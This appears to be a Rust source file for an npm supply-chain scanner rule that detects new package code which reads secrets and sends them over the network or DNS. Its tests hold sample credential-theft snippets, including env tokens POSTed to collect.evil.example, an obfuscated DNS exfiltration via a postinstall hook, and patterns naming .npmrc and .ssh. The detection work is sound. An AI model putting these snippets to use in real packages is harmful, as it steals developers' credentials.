//! `exfiltration-shape`: new code that both collects secrets and reaches out.

use std::collections::BTreeSet;

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, MAX_EVIDENCE, NewUse, ScanCx, Weight, new_in_file, weigh};
use crate::facts::{Capability, Destination, JsFacts, Occurrence};
use crate::js::FROM_STRING_TABLE;
use crate::js::patterns::{exfil_channel, is_secret_env_name, site};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "exfiltration-shape",
    group: "analyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "New code reads secrets (credential env vars, the whole environment, credential files) and reaches the network, DNS or a shell.",
    doc: r#"The correlated takeover rule. In **new code** — a file the previous version did not ship, code added to a changed file, or the code an install hook runs — it looks for both halves of a theft:

- a **source**: a credential-like environment variable (`*TOKEN*`, `*SECRET*`, `*KEY*`, `NPM_*`, `AWS_*` …, or a computed name), the whole environment (`JSON.stringify(process.env)`, `Object.entries(process.env)`, spreads), or a credential file (`.npmrc`, `.ssh`, wallets …);
- a **sink**: the network (http/https/net/fetch/WebSocket/HTTP client libraries), `dns`, or `child_process`.

Both in the same new file (or both in install-time code) make a critical finding that blocks by default. Messages name the new hosts the code mentions.

**Obfuscated code** hides both halves in its string table and reaches them through lookups (`require(_0x1e9b('0x0'))`, `process[_0x1e9b('0x4')]`). In a file classified as obfuscated, a table entry that names a core network/DNS/shell module (plain, or base64 in either alphabet javascript-obfuscator uses) counts as a use at the file's first load by computed name, and an `env` entry makes each `process[computed]` lookup an environment read; the message says `'dns' from an obfuscated string table`. Without such a lookup, a table entry counts for nothing.

**Why it matters.** This is what a hijacked-account release does: eslint-scope (postinstall reads `~/.npmrc`, sends it), ctx (env → HTTP), xrpl (seeds → HTTP), and DNS-tunnelled variants. Each half alone is common in benign code; together and *new*, they are the attack. Code that already did both in the previous version does not fire.

**Runtime code is held to more.** Outside install-time code, a shell is not a sink, an
environment read must name a credential-like variable (or serialise the whole environment), and when
the previous version already read secrets and used the network elsewhere, the new code must
also name a host whose site (`example.com` of `api.example.com`) the package never mentioned.

**Severity.** Critical. A major release lowers it to high unless the code runs at install time.

`scan` (no history) applies it to install-time code, and to runtime files that serialise or enumerate the whole environment and use the network in the same file.

**Example.** 3.1.5 adds a postinstall whose script base64-encodes `process.env` and resolves `<chunk>.<id>.exfil.example` with `dns.resolve`.

**How to silence.** Only with a policy exception on `exfiltration-shape` for the exact `name@version`, after reading the code."#,
};

const SINKS: [Capability; 4] = [
    Capability::Network,
    Capability::Dns,
    Capability::DnsFromData,
    Capability::ChildProcess,
];

/// A secret source. Install-time code counts any read of an unknown variable (`[computed]`,
/// destructured) and any whole-environment use as one; runtime code needs a credential-like
/// name, a serialised environment or a credential file, because config loaders read computed
/// variables and enumerate the environment all the time.
fn is_source(cap: Capability, o: &Occurrence, install_time: bool) -> bool {
    match cap {
        Capability::EnvRead => match o.detail.as_deref() {
            None | Some("[computed]") | Some("destructured") => install_time,
            // `process[lookup]` with `env` in an obfuscated string table: the environment
            // object itself, whatever the code then takes from it.
            Some(d) if d.ends_with(FROM_STRING_TABLE) => install_time,
            Some(name) => is_secret_env_name(name),
        },
        // Enumerating (`Object.keys(process.env)` to pick `VENDOR_*` settings), spreading into a
        // child's environment or passing it on is everyday runtime code; serialising the whole
        // environment is what a payload needs.
        Capability::EnvDump => install_time || o.detail.as_deref() == Some("serialize"),
        Capability::SensitiveRead => true,
        _ => false,
    }
}

/// Sinks: a shell counts only at install time (a runtime CLI that spawns commands with the
/// environment is what dotenv and test runners do); network and DNS count everywhere.
fn is_sink(cap: Capability, install_time: bool) -> bool {
    install_time || cap != Capability::ChildProcess
}

const SOURCES: [Capability; 3] = [
    Capability::EnvRead,
    Capability::EnvDump,
    Capability::SensitiveRead,
];

/// Most files joined into one unit through the require/import graph.
const MAX_JOINED: usize = 256;

/// Sources and sinks found in one unit of code.
#[derive(Default)]
struct Unit<'a> {
    paths: BTreeSet<&'a str>,
    sources: Vec<NewUse<'a>>,
    sinks: Vec<NewUse<'a>>,
    /// Every host the unit's files name.
    hosts: BTreeSet<&'a str>,
    /// Destinations in new code that are computed at run time.
    computed: Vec<NewUse<'a>>,
    /// A file of the unit names more hosts than were kept.
    overflow: bool,
}

impl<'a> Unit<'a> {
    fn add(
        &mut self,
        path: &'a str,
        js: &'a JsFacts,
        base: Option<&'a JsFacts>,
        install_time: bool,
        pick: impl Fn(Capability) -> Vec<&'a Occurrence>,
    ) {
        let before = (self.sources.len(), self.sinks.len());
        let at = |occ| NewUse {
            path,
            occ,
            install_time,
        };
        for cap in SOURCES {
            for occ in pick(cap) {
                if is_source(cap, occ, install_time) {
                    self.sources.push(at(occ));
                }
            }
        }
        for cap in SINKS.into_iter().filter(|&c| is_sink(c, install_time)) {
            for occ in pick(cap) {
                self.sinks.push(at(occ));
            }
        }
        // A receive-anything service newly named is a sink in its own right, whatever client
        // reaches it; a destination computed at run time is unknown, so new.
        for d in new_destinations(js, base) {
            match &d.host {
                Some(h) if exfil_channel(h).is_some() => self.sinks.push(at(&d.at)),
                Some(_) => {}
                None => self.computed.push(at(&d.at)),
            }
        }
        if (self.sources.len(), self.sinks.len()) != before {
            self.paths.insert(path);
            self.hosts.extend(js.hosts.iter().map(String::as_str));
            self.overflow |= js.hosts_overflow;
        }
    }

    fn merge(&mut self, other: Unit<'a>) {
        self.paths.extend(other.paths);
        self.sources.extend(other.sources);
        self.sinks.extend(other.sinks);
        self.hosts.extend(other.hosts);
        self.computed.extend(other.computed);
        self.overflow |= other.overflow;
    }

    fn fires(&self) -> bool {
        !self.sources.is_empty() && !self.sinks.is_empty()
    }

    /// Whether every destination of the unit is one the package already talked to: hosts
    /// named before (by site, public-suffix aware; receive-anything services only by the exact
    /// host), nothing computed at run time, no host list cut short, and at least one host
    /// named at all (code that names none sends *somewhere*: unknown, so new).
    fn only_known_destinations(
        &self,
        old_hosts: &BTreeSet<&str>,
        old_sites: &BTreeSet<&str>,
    ) -> bool {
        !self.overflow
            && self.computed.is_empty()
            && !self.hosts.is_empty()
            && self.hosts.iter().all(|h| {
                old_hosts.contains(h) || (exfil_channel(h).is_none() && old_sites.contains(site(h)))
            })
    }

    fn describe(&self) -> (String, String) {
        let what = |uses: &[NewUse<'_>]| {
            let mut d: Vec<String> = uses
                .iter()
                .map(|u| u.occ.detail.clone().unwrap_or_else(|| "process.env".into()))
                .collect();
            d.dedup();
            d.truncate(4);
            d.join(", ")
        };
        (what(&self.sources), what(&self.sinks))
    }

    fn finding(self, severity: Severity, message: String) -> Finding {
        let evidence = self
            .sources
            .iter()
            .take(2)
            .chain(self.sinks.iter().take(MAX_EVIDENCE - 2))
            .map(NewUse::evidence)
            .collect::<Vec<_>>();
        Finding::new(&RULE, message)
            .with_severity(severity)
            .with_evidence_all(evidence)
    }
}

/// Destinations of `js` that `base` (the old file) did not have: hosts it did not name, and
/// computed destinations beyond the old file's count of them (preferring lines the old file
/// did not have), so a minified rebuild that moves them is not new.
pub(crate) fn new_destinations<'a>(
    js: &'a JsFacts,
    base: Option<&JsFacts>,
) -> Vec<&'a Destination> {
    let Some(b) = base else {
        return js.destinations.iter().collect();
    };
    let hosts: BTreeSet<&str> = b.hosts.iter().map(String::as_str).collect();
    let old_computed: Vec<&str> = b
        .destinations
        .iter()
        .filter(|d| d.host.is_none())
        .map(|d| d.at.line_hash.as_str())
        .collect();
    let computed: Vec<&Destination> = js
        .destinations
        .iter()
        .filter(|d| d.host.is_none())
        .collect();
    let excess = computed.len().saturating_sub(old_computed.len());
    let mut out: Vec<&Destination> = js
        .destinations
        .iter()
        .filter(|d| d.host.as_deref().is_some_and(|h| !hosts.contains(h)))
        .collect();
    let mut fresh: Vec<&Destination> = computed
        .iter()
        .copied()
        .filter(|d| !old_computed.contains(&d.at.line_hash.as_str()))
        .collect();
    fresh.truncate(excess);
    out.extend(fresh);
    out
}

/// Did the previous version already read secrets and reach the network somewhere?
fn old_had_both(cx: &DiffCx<'_>) -> bool {
    let mut source = false;
    let mut sink = false;
    for (_, js) in cx.old.scripts() {
        source |= SOURCES
            .iter()
            .any(|&c| js.uses(c).iter().any(|o| is_source(c, o, false)));
        sink |= [
            Capability::Network,
            Capability::Dns,
            Capability::DnsFromData,
        ]
        .iter()
        .any(|&c| !js.uses(c).is_empty());
    }
    source && sink
}

/// The runtime units of new code: each changed file's new sources and sinks, joined with
/// those of the files it loads (and that load it) through the package's require/import
/// graph, so a secret read in `a.js` and sent from `b.js` is one unit.
fn runtime_units<'a>(cx: &DiffCx<'a>) -> Vec<Unit<'a>> {
    let mut by_path: Vec<(&'a str, Unit<'a>)> = Vec::new();
    for (path, f) in &cx.new.files {
        let Some(js) = &f.js else { continue };
        if cx.new.is_install_time(path)
            || cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3)
        {
            continue;
        }
        let base = cx.baseline(path);
        let mut u = Unit::default();
        u.add(path, js, base, false, |cap| new_in_file(js, base, cap));
        if !u.sources.is_empty() || !u.sinks.is_empty() {
            by_path.push((path.as_str(), u));
        }
    }
    // Union-find over the files with uses, linked when one loads the other.
    let index: std::collections::HashMap<&str, usize> = by_path
        .iter()
        .enumerate()
        .map(|(i, (p, _))| (*p, i))
        .collect();
    let mut parent: Vec<usize> = (0..by_path.len()).collect();
    fn root(parent: &mut [usize], mut i: usize) -> usize {
        while parent[i] != i {
            parent[i] = parent[parent[i]];
            i = parent[i];
        }
        i
    }
    for (i, (path, _)) in by_path.iter().enumerate() {
        for other in cx.new.import_closure(path, MAX_JOINED) {
            if let Some(&j) = index.get(other.as_str()) {
                let (a, b) = (root(&mut parent, i), root(&mut parent, j));
                parent[a] = b;
            }
        }
    }
    let mut groups: std::collections::BTreeMap<usize, Unit<'a>> = Default::default();
    for (i, (_, u)) in by_path.into_iter().enumerate() {
        let r = root(&mut parent, i);
        groups.entry(r).or_default().merge(u);
    }
    groups.into_values().filter(Unit::fires).collect()
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let old_hosts = cx.old_hosts();
    let old_sites: BTreeSet<&str> = old_hosts.iter().map(|h| site(h)).collect();
    // When the previous version already read secrets and reached the network somewhere, new
    // runtime code doing both is only the takeover shape when its destination is not one the
    // package already used (the @solana/web3.js and xrpl injections sent to new hosts; a vendor
    // SDK adding a telemetry module for its own backend does not).
    let old_had_both = old_had_both(cx);
    let mut install = Unit::default();
    for (path, f) in &cx.new.files {
        let Some(js) = &f.js else { continue };
        if !cx.new.is_install_time(path)
            || cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3)
        {
            continue;
        }
        let base = cx.baseline(path);
        install.add(path, js, base, true, |cap| new_in_file(js, base, cap));
    }
    let units = std::iter::once(install)
        .filter(Unit::fires)
        .map(|u| (u, true))
        .chain(runtime_units(cx).into_iter().map(|u| (u, false)));
    for (unit, install_time) in units {
        if !install_time && old_had_both && unit.only_known_destinations(&old_hosts, &old_sites) {
            continue;
        }
        let (src, sink) = unit.describe();
        let mut new_hosts: Vec<String> = unit
            .hosts
            .iter()
            .copied()
            .filter(|h| !old_hosts.contains(h))
            .take(3)
            .map(str::to_string)
            .collect();
        if !unit.computed.is_empty() {
            new_hosts.push("a destination computed at run time".into());
        }
        if unit.overflow {
            new_hosts.push("more hosts than are listed".into());
        }
        let hosts = if new_hosts.is_empty() {
            String::new()
        } else {
            format!("; new hosts: {}", new_hosts.join(", "))
        };
        let paths: Vec<&str> = unit.paths.iter().copied().take(3).collect();
        // Name the new top-level functions the evidence sits in ("new function X").
        let mut fresh: Vec<String> = Vec::new();
        for u in unit.sources.iter().chain(&unit.sinks) {
            let Some(scope) = u.occ.scope.as_deref() else {
                continue;
            };
            let is_new = cx
                .baseline(u.path)
                .is_none_or(|b| !b.top_level_functions.contains_key(scope));
            let label = format!("new function {scope} in {}", u.path);
            if is_new && cx.baseline(u.path).is_some() && !fresh.contains(&label) {
                fresh.push(label);
            }
        }
        let functions = if fresh.is_empty() {
            String::new()
        } else {
            format!(" [{}]", fresh.join(", "))
        };
        let at = if install_time {
            " (install-time code)"
        } else {
            ""
        };
        let message = format!(
            "{}{at}{functions}: new code in {} reads secrets ({src}) and sends them out ({sink}){hosts}; {} had neither here",
            paths.join(", "),
            cx.to(),
            cx.from(),
        );
        let severity = weigh(RULE.severity, Weight::Correlated, cx.bump(), install_time);
        out.push(unit.finding(severity, message));
    }
}

pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
    let mut install = Unit::default();
    for (path, js) in cx.facts.scripts() {
        let pick = |cap| js.uses(cap).iter().collect::<Vec<_>>();
        if cx.is_install_time(path) {
            install.add(path, js, None, true, pick);
            continue;
        }
        // Runtime code: only the unambiguous shape (whole environment serialised or
        // enumerated, plus network or DNS in the same file).
        let dump: Vec<&Occurrence> = js
            .uses(Capability::EnvDump)
            .iter()
            .filter(|o| matches!(o.detail.as_deref(), Some("serialize" | "enumerate")))
            .collect();
        let sinks: Vec<&Occurrence> = [Capability::Network, Capability::Dns]
            .iter()
            .flat_map(|&c| js.uses(c))
            .collect();
        if let (Some(d), Some(s)) = (dump.first(), sinks.first()) {
            let u = Unit {
                paths: BTreeSet::from([path]),
                sources: vec![NewUse {
                    path,
                    occ: d,
                    install_time: false,
                }],
                sinks: vec![NewUse {
                    path,
                    occ: s,
                    install_time: false,
                }],
                ..Unit::default()
            };
            let msg = format!(
                "{path} in {} dumps the whole environment and uses the network in the same file",
                cx.id()
            );
            out.push(u.finding(Severity::High, msg));
        }
    }
    if install.fires() {
        let (src, sink) = install.describe();
        let paths: Vec<&str> = install.paths.iter().copied().take(3).collect();
        let msg = format!(
            "install-time code of {} ({}) reads secrets ({src}) and sends them out ({sink})",
            cx.id(),
            paths.join(", "),
        );
        out.push(install.finding(Severity::Critical, msg));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    const OLD_INDEX: &str = r#"const https = require('https');
const level = process.env.LOG_LEVEL;
function get(url, cb) { return https.get(url, cb); }
module.exports = { get };
"#;

    const NEW_INDEX: &str = r#"const https = require('https');
const level = process.env.LOG_LEVEL;
function get(url, cb) { return https.get(url, cb); }
function report() {
  const body = JSON.stringify({ t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN });
  const req = https.request({ hostname: 'collect.evil.example', method: 'POST' });
  req.end(body);
}
report();
module.exports = { get };
"#;

    #[test]
    fn injected_function_fires_even_when_env_and_https_were_there() {
        let f = diff_versions(
            "2.0.0",
            &[
                ("package.json", &manifest("2.0.0", "")),
                ("index.js", OLD_INDEX),
            ],
            "2.0.1",
            &[
                ("package.json", &manifest("2.0.1", "")),
                ("index.js", NEW_INDEX),
            ],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert_eq!(hit.severity, Severity::Critical);
        assert!(hit.message.contains("NPM_TOKEN"), "{}", hit.message);
        // Single-capability rules stay quiet: both were already there.
        assert!(find(&f, "new-network").is_none() && find(&f, "new-env-read").is_none());
    }

    fn two_versions(old: &[(&str, &str)], new: &[(&str, &str)]) -> Vec<Finding> {
        let om = manifest("2.0.0", "");
        let nm = manifest("2.0.1", "");
        let mut o: Vec<(&str, &str)> = vec![("package.json", &om)];
        o.extend_from_slice(old);
        let mut n: Vec<(&str, &str)> = vec![("package.json", &nm)];
        n.extend_from_slice(new);
        diff_versions("2.0.0", &o, "2.0.1", &n)
    }

    #[test]
    fn runtime_cli_spawning_with_the_environment_is_quiet() {
        let cli = "const { spawn } = require('child_process');\nspawn(process.argv[2], { env: { ...process.env, FOO: '1' } });\n";
        let f = two_versions(
            &[("index.js", "module.exports = 1;\n")],
            &[("index.js", "module.exports = 1;\n"), ("cli.js", cli)],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    const VENDOR_OLD: &str = "const key = process.env.VENDOR_API_KEY;\nfetch('https://api.vendor.example/v1', { headers: { k: key } });\n";

    #[test]
    fn vendor_telemetry_to_its_own_site_is_quiet() {
        let tele = "const key = process.env.VENDOR_API_KEY;\nfetch('https://telemetry.vendor.example/t', { method: 'POST', body: key });\n";
        let f = two_versions(
            &[("index.js", VENDOR_OLD)],
            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn same_shape_to_a_new_site_fires() {
        let tele = "const key = process.env.VENDOR_API_KEY;\nfetch('https://collect.evil.example/t', { method: 'POST', body: key });\n";
        let f = two_versions(
            &[("index.js", VENDOR_OLD)],
            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(
            hit.message.contains("collect.evil.example"),
            "{}",
            hit.message
        );
    }

    /// An inert takeover shape: the token is taken from an alias of the environment (no
    /// `process.env.X` is ever written) and sent from a helper that receives it.
    const ALIASED_THEFT: &str = r#"const https = require('https');
const { env } = process;
function collect(e) {
  return { t: e.GITHUB_TOKEN, n: e['NPM_TOKEN'] };
}
function send(data) {
  https.request({ hostname: 'collect.evil.example', method: 'POST' }).end(JSON.stringify(data));
}
send(collect(env));
"#;

    #[test]
    fn secrets_read_through_an_alias_fire() {
        let f = two_versions(
            &[("index.js", "module.exports = 1;\n")],
            &[
                ("index.js", "module.exports = 1;\n"),
                ("lib/report.js", ALIASED_THEFT),
            ],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(hit.message.contains("GITHUB_TOKEN"), "{}", hit.message);
    }

    #[test]
    fn an_aliased_read_of_a_setting_is_quiet() {
        let settings = ALIASED_THEFT
            .replace("e.GITHUB_TOKEN", "e.DEBUG")
            .replace("e['NPM_TOKEN']", "e['LOG_LEVEL']");
        let f = two_versions(
            &[("index.js", "module.exports = 1;\n")],
            &[
                ("index.js", "module.exports = 1;\n"),
                ("lib/report.js", &settings),
            ],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    /// New runtime code in a package that already read a vendor key and used the network:
    /// only a destination the package never used makes it the takeover shape.
    fn vendor_update(tele: &str) -> Vec<Finding> {
        two_versions(
            &[("index.js", VENDOR_OLD)],
            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
        )
    }

    #[test]
    fn destinations_built_at_run_time_are_new() {
        for tele in [
            // No host named at all: the destination comes from elsewhere.
            "const key = process.env.VENDOR_API_KEY;\nmodule.exports = (u) => fetch(u, { method: 'POST', body: key });\n",
            // A host assembled from parts that do not fold.
            "const key = process.env.VENDOR_API_KEY;\nconst p = [process.argv0.length ? 'collect' : 'x', 'evil', 'example'];\nfetch('https://' + p.join('.') + '/t', { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
            "const key = process.env.VENDOR_API_KEY;\nconst h = Buffer.from(process.argv[2], 'base64').toString();\nfetch(`https://${h}/t`, { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
            // Built from constants: folded, and the host is new.
            "const key = process.env.VENDOR_API_KEY;\nfetch(atob('aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS90'), { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
            "const key = process.env.VENDOR_API_KEY;\nconst host = ['collect', 'evil', 'example'].join('.');\nrequire('https').request({ hostname: host, method: 'POST' }).end(key);\nfetch('https://api.vendor.example/v1');\n",
        ] {
            let f = vendor_update(tele);
            assert!(find(&f, RULE.code).is_some(), "{tele}: {:?}", codes(&f));
        }
    }

    #[test]
    fn a_configured_base_url_of_a_known_host_is_quiet() {
        let tele = "const key = process.env.VENDOR_API_KEY;\nconst base = process.env.VENDOR_URL || 'https://telemetry.vendor.example';\nfetch(`${base}/t`, { method: 'POST', body: key });\n";
        let f = vendor_update(tele);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn padding_with_known_hosts_cannot_hide_a_new_one() {
        let known: String = (0..1100)
            .map(|i| format!("'https://h{i}.vendor.example/',\n"))
            .collect();
        let old = format!("{VENDOR_OLD}const mirrors = [\n{known}];\n");
        let tele = format!(
            "const key = process.env.VENDOR_API_KEY;\nconst mirrors = [\n{known}'https://collect.evil.example/'];\nfetch(mirrors[mirrors.length - 1], {{ method: 'POST', body: key }});\n"
        );
        let f = two_versions(
            &[("index.js", &old)],
            &[("index.js", &old), ("telemetry.js", &tele)],
        );
        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
    }

    #[test]
    fn a_secret_read_in_one_file_and_sent_from_another_fires() {
        let read = "module.exports = { token: process.env.NPM_TOKEN };\n";
        let send = "const https = require('https');\nconst { token } = require('./creds');\nhttps.request({ hostname: 'collect.evil.example', method: 'POST' }).end(token);\n";
        let f = two_versions(
            &[("index.js", "module.exports = 1;\n")],
            &[
                ("index.js", "module.exports = 1;\n"),
                ("lib/creds.js", read),
                ("lib/report.js", send),
            ],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(
            hit.message.contains("lib/creds.js") && hit.message.contains("lib/report.js"),
            "{}",
            hit.message
        );
        // The same two files without a link between them are two unrelated changes.
        let unlinked = send.replace("require('./creds')", "{ token: 'x' }");
        let f = two_versions(
            &[("index.js", "module.exports = 1;\n")],
            &[
                ("index.js", "module.exports = 1;\n"),
                ("lib/creds.js", read),
                ("lib/report.js", &unlinked),
            ],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    const GH_OLD: &str = "// https://github.com/owner/tool#readme\nconst t = process.env.GITHUB_TOKEN;\nrequire('https').get('https://registry.npmjs.org/tool');\n";

    #[test]
    fn a_code_hosting_api_is_not_known_through_its_site() {
        let send = "const t = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/repos/someone/loot/issues', { method: 'POST', headers: { authorization: `token ${t}` } });\n";
        let f = two_versions(
            &[("index.js", GH_OLD)],
            &[("index.js", GH_OLD), ("sync.js", send)],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(hit.message.contains("api.github.com"), "{}", hit.message);
        // A package that always called that exact API is not sending anywhere new.
        let old = format!("{GH_OLD}fetch('https://api.github.com/repos/owner/tool/releases');\n");
        let f = two_versions(
            &[("index.js", &old)],
            &[("index.js", &old), ("sync.js", send)],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn sites() {
        // `googleapis.com` is itself a suffix on the list: each of its hosts is its own site.
        assert_eq!(
            site("clienttelemetry.googleapis.com"),
            "clienttelemetry.googleapis.com"
        );
        assert_eq!(site("telemetry.vendor.example.com"), "example.com");
        assert_eq!(site("example.com"), "example.com");
        assert_eq!(site("localhost"), "localhost");
    }

    #[test]
    fn unrelated_new_function_is_quiet() {
        let new = format!("{OLD_INDEX}\nfunction pad(s) {{ return ' ' + s; }}\n");
        let f = diff_versions(
            "2.0.0",
            &[
                ("package.json", &manifest("2.0.0", "")),
                ("index.js", OLD_INDEX),
            ],
            "2.0.1",
            &[("package.json", &manifest("2.0.1", "")), ("index.js", &new)],
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn major_lowers_runtime_shape() {
        let f = diff_versions(
            "2.0.0",
            &[
                ("package.json", &manifest("2.0.0", "")),
                ("index.js", OLD_INDEX),
            ],
            "3.0.0",
            &[
                ("package.json", &manifest("3.0.0", "")),
                ("index.js", NEW_INDEX),
            ],
        );
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::High)
        );
    }

    /// The seed scenario's shape: a new postinstall runs obfuscated code whose string table
    /// names `dns` and `env`, reached only through lookups.
    fn obfuscated_telemetry() -> String {
        let mut table = vec!["dns", "env", ".exfil.example", "stringify"];
        table.extend(FILLER);
        obfuscated(
            &table,
            "var _0x5e21a7=require(_0x1e9b('0x0'));_0x5e21a7['resolve'](JSON[_0x1e9b('0x3')](process[_0x1e9b('0x1')])+_0x1e9b('0x2'));",
        )
    }

    /// 3.1.4 → 3.1.5 where 3.1.5 runs the obfuscated telemetry at install time, and 3.1.4
    /// did too (`already`) or shipped neither.
    fn telemetry_update(already: bool) -> Vec<Finding> {
        let hook = r#""scripts":{"postinstall":"node lib/telemetry.js"}"#;
        let telemetry = obfuscated_telemetry();
        let index = ("index.js", "module.exports = (s) => s.trim();");
        let old_manifest = manifest("3.1.4", if already { hook } else { "" });
        let mut old = vec![("package.json", old_manifest.as_str()), index];
        if already {
            old.push(("lib/telemetry.js", &telemetry));
        }
        let new_manifest = manifest("3.1.5", hook);
        let new = [
            ("package.json", new_manifest.as_str()),
            index,
            ("lib/telemetry.js", &telemetry),
        ];
        diff_versions("3.1.4", &old, "3.1.5", &new)
    }

    #[test]
    fn theft_hidden_behind_a_string_table_fires() {
        let f = telemetry_update(false);
        let hit = find(&f, RULE.code).expect("finding");
        assert_eq!(hit.severity, Severity::Critical);
        assert!(
            hit.message
                .contains("'env' from an obfuscated string table")
                && hit
                    .message
                    .contains("'dns' from an obfuscated string table")
                && hit.message.contains("exfil.example"),
            "{}",
            hit.message
        );
        assert_eq!(hit.evidence[0].path, "lib/telemetry.js");
    }

    #[test]
    fn an_obfuscated_file_that_was_always_there_stays_quiet() {
        let f = telemetry_update(true);
        assert!(f.is_empty(), "{:?}", codes(&f));
    }

    #[test]
    fn scan_flags_install_time_theft_only() {
        let hook = manifest("1.0.0", r#""scripts":{"postinstall":"node setup.js"}"#);
        let setup = "const h = require('https'); h.request({host:'x.example'}).end(JSON.stringify(process.env));";
        let facts = pkg(&[("package.json", &hook), ("setup.js", setup)]);
        let f = crate::scan(&facts, "dep", "1.0.0");
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::Critical)
        );
        // The same code at runtime with a secret-named read only: quiet.
        let runtime = pkg(&[
            ("package.json", &manifest("1.0.0", "")),
            (
                "index.js",
                "const h = require('https'); h.get(process.env.API_TOKEN_URL);",
            ),
        ]);
        assert!(find(&crate::scan(&runtime, "dep", "1.0.0"), RULE.code).is_none());
    }
}
